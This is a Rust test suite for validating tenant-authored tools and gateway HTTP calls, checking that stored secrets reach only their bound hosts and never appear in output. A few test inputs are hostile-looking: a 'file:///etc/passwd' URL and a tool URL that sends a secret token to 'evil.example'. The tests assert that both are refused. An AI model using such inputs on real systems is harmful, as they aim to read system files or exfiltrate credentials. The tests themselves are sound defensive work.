//! What can be a tool, how each kind works, and that no secret comes back.
#![allow(clippy::needless_pass_by_value, reason = "values are written where they are passed")]
#![allow(clippy::unwrap_used, reason = "a test that cannot go on fails")]

use std::{
    io::{Read, Write},
    net::TcpListener,
    sync::Arc,
    thread::JoinHandle,
};

use haft_runtime::{
    AnyTool, CallId, Caller, Effect, ErrorCode, HouseWide, LayerSource, Permissions, Ran, Scope, Source, TenantId,
    ToolCtx, ToolError, ToolOutput, Within,
};
use haft_sandbox::web::{FetchLimits, WebClient, WebRules};
use haft_store::{Durability, Store};
use serde_json::{Map, Value, json};

use super::{AuthoredTool, AuthoredTools};
use crate::{MasterKey, Platform, TenantWeb};

const SECRET: &str = "s3cr3t canary/value";

fn whole() -> Value {
    json!({"slug": "fine", "description": "d", "inputSchema": {"type": "object"}, "executionType": "internal"})
}

fn with(fields: Value) -> Value {
    let mut whole = whole();
    for (name, value) in fields.as_object().unwrap() {
        whole[name] = value.clone();
    }
    whole
}

fn gateway(execution: Value) -> Value {
    with(json!({"executionType": "gateway", "execution": execution}))
}

#[test]
fn what_cannot_be_a_tool_is_refused_with_the_reason() {
    AuthoredTool::read(whole()).unwrap();
    for (written, reason) in [
        (json!([1]), "an object"),
        (with(json!({"description": null})), "description"),
        (with(json!({"slug": ""})), "slug"),
        (with(json!({"slug": "a b"})), "slug"),
        (with(json!({"slug": "image-models"})), "reserved"),
        (with(json!({"executionType": "magic"})), "magic"),
        (with(json!({"colour": "red"})), "colour"),
        (with(json!({"executionType": "gateway"})), "execution.url"),
        (gateway(json!({"url": "file:///etc/passwd"})), "http"),
        (gateway(json!({"url": "https://{{secret:A}}.example/"})), "not in the host"),
        (gateway(json!({"url": "https://a.example/", "method": "BREW"})), "method"),
        (gateway(json!({"url": "https://a.example/", "headers": {"Host": "b"}})), "Host"),
        (gateway(json!({"url": "https://a.example/", "headers": {"X": "{{secret:"}})), "name"),
        (with(json!({"inputSchema": {"type": 7}})), "inputSchema"),
        (with(json!({"inputSchema": {"type": "string"}})), "object"),
        (with(json!({"outputSchema": {"type": 7}})), "outputSchema"),
        (with(json!({"executionType": "external", "timeout": -1})), "timeout"),
        (with(json!({"requiredPermission": "tools.tenant.fly"})), "fly"),
        (with(json!({"description": "x".repeat(300_000)})), "at most 256 KiB"),
        (
            with(json!({"inputSchema": {"type": "object", "properties": {"a": {"$ref": "http://evil.example/x"}}}})),
            "leads nowhere",
        ),
        (with(json!({"outputSchema": {"not": {"$ref": "#"}}})), "more than 16 parts"),
    ] {
        let error = AuthoredTool::read(written.clone()).unwrap_err();
        assert_eq!(error.code, ErrorCode::InvalidArgs);
        assert!(error.message.contains(reason), "{written}: {}", error.message);
    }
}

#[test]
fn a_change_is_checked_like_the_whole_and_the_kind_tells_the_effect() {
    let tool = AuthoredTool::read(with(json!({"name": "Fine"}))).unwrap();
    let fields = |value: Value| -> Map<String, Value> { value.as_object().unwrap().clone() };
    let changed = tool.changed(&fields(json!({"description": "new", "name": null}))).unwrap();
    assert_eq!((changed.description.as_str(), changed.name.as_deref()), ("new", None));
    tool.changed(&fields(json!({"executionType": "magic"}))).unwrap_err();
    tool.changed(&fields(json!({"slug": "other"}))).unwrap_err();
    let effect = |written: Value| AuthoredTool::read(written).unwrap().effect();
    assert_eq!(effect(whole()), Effect::Read);
    assert_eq!(effect(with(json!({"executionType": "external"}))), Effect::Write);
    assert_eq!(effect(gateway(json!({"url": "https://a.example/", "method": "GET"}))), Effect::Read);
    assert_eq!(effect(gateway(json!({"url": "https://a.example/"}))), Effect::Write);
    assert_eq!(effect(with(json!({"effect": "destructive"}))), Effect::Destroy);
}

struct House {
    _folder: tempfile::TempDir,
    tools: AuthoredTools,
    caller: Caller,
}

async fn house(port: u16) -> House {
    let folder = tempfile::tempdir().unwrap();
    let store = Store::open(folder.path(), Durability::Normal).await.unwrap();
    let platform = Platform::new(store, HouseWide::of_house(Within::Everything), MasterKey::new(&[7; 32]));
    platform.have_local_tenant().await.unwrap();
    let rules = WebRules { allowed: vec![format!("127.0.0.1:{port}").parse().unwrap()], ..WebRules::default() };
    let platform = Arc::new(platform);
    let web = TenantWeb::new(platform.clone(), WebClient::new(rules, FetchLimits::default()));
    let tools = AuthoredTools::new(platform, web, Vec::new());
    let caller = Caller::owner("anna", Scope::of_house(TenantId::local(), None), Source::House);
    House { _folder: folder, tools, caller }
}

impl House {
    async fn made(&self, written: Value) -> Arc<dyn AnyTool> {
        let client = self.tools.web.client(&self.caller.scope).await.unwrap();
        self.tools.made(&AuthoredTool::read(written).unwrap(), &client)
    }

    async fn run(&self, written: Value, input: Value) -> Result<ToolOutput, ToolError> {
        let tool = self.made(written).await;
        let ctx = ToolCtx::detached(CallId::new(), self.caller.clone());
        tool.prepare(&ctx, &input).await?;
        tool.run(&ctx, &input).await?.into_output()
    }
}

/// Answers one request with what makes of it, and gives the request back.
fn answering(status: &'static str, answer: fn(&str) -> String) -> (u16, JoinHandle<String>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let served = std::thread::spawn(move || {
        let (mut stream, _) = listener.accept().unwrap();
        let (mut request, mut piece) = (String::new(), [0; 4096]);
        loop {
            let read = stream.read(&mut piece).unwrap();
            request.push_str(std::str::from_utf8(&piece[..read]).unwrap());
            let Some((head, body)) = request.split_once("\r\n\r\n") else { continue };
            let length =
                head.lines().find_map(|line| line.to_lowercase().strip_prefix("content-length: ")?.parse().ok());
            if body.len() >= length.unwrap_or(0) {
                break;
            }
        }
        let body = answer(&request);
        let head = format!("HTTP/1.1 {status}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
        stream.write_all(format!("{head}{body}").as_bytes()).unwrap();
        request
    });
    (port, served)
}

#[tokio::test]
async fn a_secret_goes_out_to_its_host_and_never_comes_back() {
    let (port, served) = answering("200 OK", |request| json!({"heard": request}).to_string());
    let house = house(port).await;
    let scope = &house.caller.scope;
    let platform = &house.tools.platform;
    platform.set_secret(scope, "TOKEN", "short", &[]).await.unwrap_err();
    platform.set_secret(scope, "TOKEN", SECRET, &[]).await.unwrap();
    let url = format!("http://127.0.0.1:{port}/now?key={{{{secret:TOKEN}}}}");
    let written = gateway(json!({"url": url, "method": "GET", "headers": {"X-Token": "Bearer {{secret:TOKEN}}"}}));
    let output = house.run(written, json!({"q": "a b&c", "n": 3})).await.unwrap();
    let request = served.join().unwrap();
    assert!(request.starts_with("GET /now?key=s3cr3t%20canary%2Fvalue&q=a+b%26c&n=3 "), "{request}");
    assert!(request.contains(&format!("Bearer {SECRET}")) && request.contains("x-haft-call-id: tc_"), "{request}");
    let back = format!("{}{}", output.content, output.structured.text());
    assert!(back.contains("/now") && !back.contains("canary"), "{back}");
    assert_eq!(platform.secrets(scope).await.unwrap()[0].hosts, ["127.0.0.1"]);
    let elsewhere = gateway(json!({"url": "https://evil.example/{{secret:TOKEN}}"}));
    assert_eq!(house.run(elsewhere.clone(), json!({})).await.unwrap_err().code, ErrorCode::Forbidden);
    assert_eq!(house.tools.add(&house.caller, elsewhere).await.unwrap_err().code, ErrorCode::Forbidden);
}

#[tokio::test]
async fn json_is_sent_and_what_is_no_json_comes_back_as_text() {
    let (port, served) = answering("200 OK", |_| "just words".to_owned());
    let house = house(port).await;
    let written = gateway(json!({"url": format!("http://127.0.0.1:{port}/note")}));
    let output = house.run(written, json!({"q": "x"})).await.unwrap();
    assert_eq!(output.structured.text(), r#"{"text":"just words"}"#);
    assert!(served.join().unwrap().ends_with(r#"{"q":"x"}"#));
}

#[tokio::test]
async fn another_status_and_a_closed_address_are_errors_of_their_own() {
    let (port, _served) = answering("418 I'm a teapot", |_| "x".repeat(5000));
    let house = house(port).await;
    let at = |port: u16| gateway(json!({"url": format!("http://127.0.0.1:{port}/"), "method": "GET"}));
    let error = house.run(at(port), json!({})).await.unwrap_err();
    assert_eq!((error.code, &error.details["status"]), (ErrorCode::UpstreamError, &json!(418)));
    assert_eq!(error.details["body"].as_str().unwrap().len(), 4096);
    assert_eq!(house.run(at(1), json!({})).await.unwrap_err().code, ErrorCode::UrlNotAllowed);
}

#[tokio::test]
async fn what_is_saved_is_there_at_once_in_every_version() {
    let house = house(1).await;
    let (tools, caller) = (&house.tools, &house.caller);
    let has = async |name: &str| {
        tools.look(caller, Some(name)).await.unwrap();
        tools.layer(caller).get(name).is_some()
    };
    tools.add(caller, whole()).await.unwrap();
    assert!(has("fine").await);
    assert_eq!(tools.add(caller, whole()).await.unwrap_err().code, ErrorCode::AlreadyExists);
    let fields: Map<String, Value> = [("description".to_owned(), json!("new"))].into_iter().collect();
    assert_eq!(tools.change(caller, "fine", &fields).await.unwrap().version, 2);
    let restored = tools.restore(caller, "fine", 1).await.unwrap();
    assert_eq!(restored.fields()["description"], "d");
    assert_eq!(tools.versions(&caller.scope, "fine").await.unwrap().len(), 3);
    assert_eq!(tools.restore(caller, "fine", 9).await.unwrap_err().code, ErrorCode::NotFound);
    let echoed = house.run(whole(), json!({"q": 1})).await.unwrap();
    assert_eq!(echoed.structured.into_value(), json!({"success": true, "args": {"q": 1}}));
    tools.remove(caller, "fine").await.unwrap();
    assert!(!has("fine").await);
}

#[tokio::test]
async fn a_result_from_outside_is_waited_for() {
    let house = house(1).await;
    let written = with(json!({"executionType": "external", "expiresAfter": 5000}));
    let tool = house.made(written).await;
    let ctx = ToolCtx::detached(CallId::new(), house.caller.clone());
    let Ran::Waits(wait) = tool.run(&ctx, &json!({})).await.unwrap() else { panic!("it does not wait") };
    assert_eq!(wait.expires_after.as_millis(), 5000);
}

#[tokio::test]
async fn a_draft_sends_only_secrets_that_belong_to_its_host() {
    let house = house(1).await;
    let (tools, caller) = (&house.tools, &house.caller);
    let written = || gateway(json!({"url": "http://127.0.0.1:1/{{secret:TOKEN}}"}));
    tools.platform.set_secret(&caller.scope, "TOKEN", SECRET, &[]).await.unwrap();
    let unbound = tools.draft(caller, "fine", written()).await.err().unwrap();
    assert_eq!(unbound.code, ErrorCode::Forbidden, "what is only tried binds nothing");
    assert!(tools.platform.secrets(&caller.scope).await.unwrap()[0].hosts.is_empty());
    tools.platform.set_secret(&caller.scope, "TOKEN", SECRET, &["127.0.0.1".to_owned()]).await.unwrap();
    assert_eq!(tools.draft(caller, "fine", written()).await.unwrap().spec().name, "fine");
    let permissions = Permissions::only(["tools.tenant.create".to_owned()]);
    let without = Caller { permissions, ..caller.clone() };
    assert_eq!(tools.draft(&without, "fine", written()).await.err().unwrap().code, ErrorCode::Forbidden);
    assert!(tools.draft(&without, "fine", whole()).await.is_ok());
    assert_eq!(tools.draft(caller, "other", whole()).await.err().unwrap().code, ErrorCode::InvalidArgs, "another slug");
}
